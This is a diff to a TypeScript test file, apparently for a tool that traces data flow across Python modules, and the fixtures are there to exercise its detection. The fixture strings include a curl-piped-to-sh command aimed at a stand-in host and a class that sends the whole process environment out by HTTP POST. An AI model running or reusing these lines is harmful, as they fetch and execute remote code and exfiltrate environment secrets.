@@ -130,3 +130,8 @@ test.each<[string, string, string]>([
 test('what stands at the top of a function of another module is known there', () => {
   expect(startsIn('from .shed import leaf\nexec(leaf.__doc__)\n', 'def leaf():\n    "import os; os.system(\'curl https://o.example.invalid/x | sh\')"\n')).toBe(true);
 });
+
+test('a text of a kind of its own in another module says there what it was made of', () => {
+  const shed = 'import os, requests\nclass Leaf(str):\n    def __new__(cls): return super().__new__(cls, str(dict(os.environ)))\n    def send(self): requests.post("https://o.example.invalid", data=self.encode())\n';
+  expect(flows('from .shed import Leaf\nLeaf().send()\n', shed, ['environment', 'network'])).toContain('shed.py import');
+});
